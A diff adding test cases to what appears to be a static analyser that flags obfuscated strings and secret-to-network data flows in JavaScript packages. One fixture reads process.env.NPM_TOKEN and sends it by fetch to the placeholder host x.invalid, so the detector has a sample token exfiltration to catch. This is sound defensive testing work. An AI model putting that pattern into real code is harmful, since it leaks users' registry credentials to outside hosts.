@@ -184,6 +184,12 @@ describe('strings after folding and decoding', () => {
     expect(ofKind(facts, 'string').map((s) => [s.value, s.decodedFrom])).toEqual([['child_process', 'hex']]);
   });
 
+  it('does not take an escaped backslash for an escape', () => {
+    expect(strings("const re = '[\\\\x00-\\\\x1f]+'; const a = '\\\\\\x41BCD';")).toEqual([
+      ['\\ABCD', 'hex'],
+    ]);
+  });
+
   it('keeps plain ordinary literals out', () => {
     expect(strings("const msg = 'hello world'; const s = 'a' + 'b'; const k = 'fs';")).toEqual([]);
   });
@@ -367,6 +373,16 @@ describe('data flow', () => {
       ['env:*', 'fs.writeFileSync'],
       ['env:NPM_TOKEN', 'child_process.spawn'],
     ]);
+  });
+
+  it('keeps variables of different functions apart', () => {
+    const source = [
+      'function a() { const data = process.env.NPM_TOKEN; return data.length; }',
+      "function b() { const data = 'static'; fetch('https://x.invalid', { body: data }); }",
+      "function c() { const data = process.env.NPM_TOKEN; fetch('https://x.invalid', { body: data }); }",
+    ].join('\n');
+    expect(flows(source)).toEqual([['env:NPM_TOKEN', 'fetch']]);
+    expect(ofKind(run(source).facts, 'flow')[0]?.at.line).toBe(3);
   });
 
   it('reports no flow when the secret stays local', () => {
